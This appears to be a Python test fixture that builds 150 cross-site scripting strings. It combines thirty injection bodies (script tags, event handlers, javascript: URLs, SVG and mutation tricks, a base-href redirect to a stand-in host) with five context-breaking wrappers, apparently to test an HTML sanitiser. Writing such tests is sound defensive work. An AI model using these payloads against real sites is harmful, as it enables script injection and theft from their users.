"""150 strings that run in a page which takes data for markup."""

from __future__ import annotations

CALL = "window.pwned=1"
BODIES = (
    f"<script>{CALL}</script>",
    f"<ScRiPt src=data:,{CALL}></ScRiPt>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<body onload={CALL}>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src=javascript:parent.{CALL}></iframe>",
    f"<a href=javascript:{CALL}>x</a>",
    f"javascript:{CALL}//",
    f"JaVaScRiPt&colon;{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"<details open ontoggle={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<input autofocus onfocus={CALL}>",
    f"<style>@import 'javascript:{CALL}'</style>",
    f"<math><mtext><script>{CALL}</script></mtext></math>",
    f"<form action=javascript:{CALL}><button>x</button></form>",
    f"<object data=javascript:{CALL}></object>",
    f"<template><script>{CALL}</script></template>",
    f"<base href=//evil.invalid/><script src=x></script>{CALL}",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<b hx-on:click={CALL} hx-get=/ hx-trigger=load>x</b>",
    f"{{{{ ''.__class__ }}}}<x>{CALL}",
    f"<x onclick={CALL} tabindex=1 autofocus>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<!--><script>{CALL}</script>-->",
    f"<textarea><script>{CALL}</script>",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
)
# How such a string breaks out of where it was put.
WRAPPERS = ("{}", '">{}', "'>{}", "</textarea></script></title></style>{}", "`--!>{}<!--")
STRINGS = tuple(wrapper.replace("{}", body) for body in BODIES for wrapper in WRAPPERS)
